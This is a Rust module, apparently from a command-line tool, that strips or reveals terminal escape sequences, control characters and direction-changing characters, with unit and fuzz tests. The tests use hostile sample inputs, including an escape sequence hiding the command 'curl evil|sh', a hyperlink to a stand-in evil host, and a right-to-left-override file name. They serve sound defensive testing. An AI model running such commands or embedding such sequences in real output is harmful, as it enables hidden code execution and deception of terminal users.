//! Strings from callers, repositories, agents and errors, made safe for a terminal.

/// The width of a tab.
const TAB: &str = "    ";

/// Removes what a terminal would interpret: escape sequences, control characters except line feeds, and characters
/// that change the writing direction.
#[must_use]
pub fn clean(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for piece in anstream::adapter::strip_str(text) {
        for c in piece.chars() {
            match c {
                '\n' => out.push('\n'),
                '\t' => out.push_str(TAB),
                '\u{2028}' | '\u{2029}' => out.push('\n'),
                c if c.is_control() || changes_direction(c) => {}
                c => out.push(c),
            }
        }
    }
    out
}

fn changes_direction(c: char) -> bool {
    matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Shows what a terminal would interpret or hide: control characters as `^[`, bytes that are not UTF-8 as `<FF>`, and characters
/// that [`is_hidden`] as `<U+202E>`. Tabs stay as they are.
#[must_use]
pub fn visible(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            match c {
                '\t' => out.push(c),
                '\0'..='\x1f' | '\x7f' => {
                    out.push('^');
                    out.push(char::from((c as u8) ^ 0x40));
                }
                c if is_hidden(c) => out.push_str(&format!("<U+{:04X}>", u32::from(c))),
                c => out.push(c),
            }
        }
        for byte in chunk.invalid() {
            out.push_str(&format!("<{byte:02X}>"));
        }
    }
    out
}

/// Whether a terminal would interpret a character, or not show that it is there: control characters except tabs and line feeds,
/// those that change the writing direction, and those without a width.
#[must_use]
pub fn is_hidden(c: char) -> bool {
    match c {
        '\t' | '\n' => false,
        c if c.is_control() || changes_direction(c) => true,
        // Soft hyphen, fillers, joiners and other formats, separators of lines, and tags.
        '\u{ad}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{3164}' | '\u{ffa0}' => true,
        '\u{200b}'..='\u{200d}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{206f}' => true,
        '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}' => true,
        _ => false,
    }
}

/// Cleans the text and truncates it to one line of at most `most` characters.
#[must_use]
pub fn one_line(text: &str, most: usize) -> String {
    let mut out = String::new();
    let mut length = 0;
    for word in clean(text).split_whitespace() {
        let space = usize::from(!out.is_empty());
        for c in [" "].into_iter().take(space).flat_map(str::chars).chain(word.chars()) {
            if length + 1 >= most {
                out.push('…');
                return out;
            }
            out.push(c);
            length += 1;
        }
    }
    out
}

/// An error and its causes on one line.
#[must_use]
pub fn chain(error: &dyn std::error::Error) -> String {
    let mut text = error.to_string();
    let mut source = error.source();
    while let Some(cause) = source {
        text.push_str(": ");
        text.push_str(&cause.to_string());
        source = cause.source();
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn everything_a_terminal_interprets_is_removed() {
        for (hostile, cleaned) in [
            ("plain ü 漢字 🦀\nnext", "plain ü 漢字 🦀\nnext"),
            ("\x1b[31mred\x1b[0m", "red"),
            ("\x1b[2J\x1b[Hgone", "gone"),
            ("\x1b]0;title\x07text", "text"),
            ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
            ("\x1bP1$r\x1b\\dcs", "dcs"),
            ("over\rwritten\x08\x7f", "overwritten"),
            ("c1 \u{9b}31m \u{90}x\u{9c}", "c1 31m x"),
            ("a\tb", "a    b"),
            ("\u{202e}gnp.exe", "gnp.exe"),
            ("line\u{2028}line", "line\nline"),
            ("nul\0bell\x07", "nulbell"),
        ] {
            assert_eq!(clean(hostile), cleaned, "{hostile:?}");
        }
    }

    #[test]
    fn what_is_hidden_can_be_seen() {
        for (hostile, shown) in [
            (&b"plain \xc3\xbc\ttab"[..], "plain ü\ttab"),
            (b": \"\x1b]0;\"; curl evil|sh; : \"\x07", r#": "^[]0;"; curl evil|sh; : "^G"#),
            (b"over\rwritten\x08\x7f\0\n", "over^Mwritten^H^?^@^J"),
            (b"8 bits \x9b1m \xff", "8 bits <9B>1m <FF>"),
            ("\u{9b}31m".as_bytes(), "<U+009B>31m"),
            ("a\u{202e}b\u{2066}c\u{200b}d".as_bytes(), "a<U+202E>b<U+2066>c<U+200B>d"),
            ("\u{e0041}\u{feff}\u{2028}".as_bytes(), "<U+E0041><U+FEFF><U+2028>"),
        ] {
            assert_eq!(visible(hostile), shown, "{hostile:?}");
        }
    }

    #[test]
    fn one_line_is_one_line() {
        assert_eq!(one_line("a\n b\t\x1b[1mc  ", 80), "a b c");
        assert_eq!(one_line("", 80), "");
        assert_eq!(one_line("abcdefgh", 5), "abcd…");
        assert_eq!(one_line("abc def", 5), "abc …");
        assert_eq!(one_line(&"é".repeat(500), 10).chars().count(), 10);
    }

    properties::fuzz! {
        #[test]
        fn line_feeds_are_the_only_controls_left(text in proptest::prelude::any::<String>()) {
            let cleaned = clean(&text);
            proptest::prop_assert!(!cleaned.chars().any(|c| c.is_control() && c != '\n'), "{cleaned:?}");
            proptest::prop_assert_eq!(clean(&cleaned), cleaned);
        }

        #[test]
        fn nothing_stays_hidden(bytes in proptest::prelude::any::<Vec<u8>>()) {
            let shown = visible(&bytes);
            proptest::prop_assert!(!shown.chars().any(is_hidden), "{shown:?}");
            proptest::prop_assert!(shown.chars().count() >= String::from_utf8_lossy(&bytes).chars().count());
        }
    }
}
